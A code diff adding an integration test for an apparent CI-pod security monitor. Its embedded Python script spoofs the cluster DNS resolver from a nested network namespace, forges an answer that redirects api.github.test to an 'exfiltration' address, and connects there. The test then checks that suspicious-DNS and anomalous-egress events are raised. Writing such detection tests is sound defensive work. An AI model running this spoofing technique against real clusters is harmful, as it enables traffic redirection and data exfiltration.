@@ -743,6 +743,115 @@ async fn a_name_forged_by_a_resolver_the_pod_chose_is_not_used_and_is_reported()
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_nested_containers_answer_claiming_the_cluster_resolver_is_not_used_and_is_reported() {
+    let world = world().await;
+    let _shared = API_OUTAGE.read().await;
+    let job = Job::new(world.node, "dindspoof").await;
+    let exfil = world.node.add_address(243).unwrap();
+    let listener = Listener::start(SocketAddr::from((exfil, 8080))).unwrap();
+    // The runner resolves api.github.test in its init container (on the pod's own interface),
+    // then waits for its job.
+    let name = job.start(world.node, 1001, "api.github.test", "exec sleep 3599").await;
+    job.wait_phase(world.node, &name, "Running").await;
+    let pid = host_pid("3599").await;
+    let cgroup = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
+    let container = cgroup.lines().find_map(|l| l.strip_prefix("0::")).unwrap().to_string();
+    let unified = ["/sys/fs/cgroup/unified", "/sys/fs/cgroup"]
+        .into_iter()
+        .find(|p| std::path::Path::new(p).join("cgroup.procs").exists())
+        .unwrap();
+
+    // The job runs Docker-in-Docker: a bridge in the pod's network namespace and a nested
+    // container's namespace behind it, which takes the cluster resolver's address for itself.
+    let nested = format!("rwdind{}", std::process::id());
+    let run = |cmd: &mut std::process::Command| {
+        let out = cmd.output().unwrap();
+        assert!(out.status.success(), "{cmd:?}: {}", String::from_utf8_lossy(&out.stderr));
+    };
+    let in_pod = |args: &[&str]| {
+        let mut cmd = std::process::Command::new("nsenter");
+        cmd.args(["-t", &pid.to_string(), "-n"]).args(args);
+        cmd
+    };
+    run(std::process::Command::new("ip").args(["netns", "add", &nested]));
+    run(&mut in_pod(&["ip", "link", "add", "dk0", "type", "bridge"]));
+    run(&mut in_pod(&["ip", "addr", "add", "172.30.0.1/24", "dev", "dk0"]));
+    run(&mut in_pod(&["ip", "link", "add", "dkp0", "type", "veth", "peer", "name", "dkn0", "netns", &nested]));
+    run(&mut in_pod(&["ip", "link", "set", "dkp0", "master", "dk0", "up"]));
+    run(&mut in_pod(&["ip", "link", "set", "dk0", "up"]));
+    run(&mut in_pod(&["sysctl", "-qw", "net.ipv4.conf.all.rp_filter=0", "net.ipv4.conf.dk0.rp_filter=0"]));
+    run(std::process::Command::new("ip").args(["-n", &nested, "addr", "add", "172.30.0.2/24", "dev", "dkn0"]));
+    run(std::process::Command::new("ip").args(["-n", &nested, "addr", "add", &format!("{NODE_IP}/32"), "dev", "dkn0"]));
+    run(std::process::Command::new("ip").args(["-n", &nested, "link", "set", "dkn0", "up"]));
+
+    // A process of the job (in the runner container's cgroup and the pod's network namespace,
+    // root) asks the cluster resolver for api.github.test; a socket it opened in the nested
+    // namespace answers first, from the resolver's address, with the exfiltration address; the
+    // process then calls that address.
+    let bytes = |b: Vec<u8>| b.iter().map(u8::to_string).collect::<Vec<_>>().join(",");
+    let query = bytes(runwarden_tests::services::dns_query(77, "api.github.test"));
+    let forged = bytes(runwarden_tests::services::dns_answer(77, "api.github.test", exfil));
+    let script = format!(
+        "import ctypes, os, socket\n\
+         libc = ctypes.CDLL(None, use_errno=True)\n\
+         pod = os.open('/proc/self/ns/net', os.O_RDONLY)\n\
+         assert libc.setns(os.open('/run/netns/{nested}', os.O_RDONLY), 0x40000000) == 0\n\
+         fake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fake.bind(('{NODE_IP}', 53))\n\
+         assert libc.setns(pod, 0x40000000) == 0\n\
+         victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); victim.bind(('0.0.0.0', 45053))\n\
+         victim.sendto(bytes([{query}]), ('{NODE_IP}', 53))\n\
+         fake.sendto(bytes([{forged}]), ('172.30.0.1', 45053))\n\
+         victim.settimeout(5); got = victim.recv(2048)\n\
+         assert bytes([{exfil_bytes}]) in got, 'the forged answer came first'\n\
+         socket.create_connection(('{exfil}', 8080), timeout=5).close()\n",
+        exfil_bytes = exfil.octets().iter().map(u8::to_string).collect::<Vec<_>>().join(","),
+    );
+    let out = std::process::Command::new("sh")
+        .args(["-c", "echo $$ > \"$0/cgroup.procs\" && exec \"$@\""])
+        .arg(format!("{unified}{container}"))
+        .args(["nsenter", "-t", &pid.to_string(), "-n", "python3", "-c", &script])
+        .output()
+        .unwrap();
+    let _ = std::process::Command::new("ip").args(["netns", "del", &nested]).status();
+    assert!(out.status.success(), "the job's process: {}", String::from_utf8_lossy(&out.stderr));
+    assert!(listener.count() >= 1, "the job reached the exfiltration address");
+
+    // The answer names nothing: the call is reported by address, and the forging is said.
+    let client = world.node.client().await;
+    let started = Instant::now();
+    let (suspicious, exfil_reported) = loop {
+        let events = Api::<Event>::namespaced(client.clone(), &job.ns).list(&Default::default()).await.unwrap().items;
+        let notes = |reason: &str| -> Vec<String> {
+            events
+                .iter()
+                .filter(|e| e.reason.as_deref() == Some(reason) && regarding(e) == ("Pod".into(), name.clone()))
+                .filter_map(|e| e.note.clone())
+                .collect()
+        };
+        let (suspicious, anomalies) = (notes("SuspiciousDNS"), notes("AnomalousEgress"));
+        let exfil_reported: Vec<String> = anomalies.into_iter().filter(|n| n.contains(&exfil.to_string())).collect();
+        if !suspicious.is_empty() && !exfil_reported.is_empty() {
+            break (suspicious, exfil_reported);
+        }
+        assert!(
+            started.elapsed() < Duration::from_secs(30),
+            "no SuspiciousDNS and AnomalousEgress Events: {events:?}\n{}",
+            agent_logs(world.node)
+        );
+        tokio::time::sleep(Duration::from_millis(250)).await;
+    };
+    assert!(
+        suspicious[0].contains("another interface") && suspicious[0].contains(&exfil.to_string()),
+        "{suspicious:?}"
+    );
+    assert!(
+        exfil_reported.iter().all(|n| !n.contains("api.github.test")),
+        "judged as a bare address: {exfil_reported:?}"
+    );
+    job.finish(world.node, &name).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn pods_a_job_creates_borrow_no_identity_and_are_reported_as_unidentified() {
     let world = world().await;
     let _shared = API_OUTAGE.read().await;
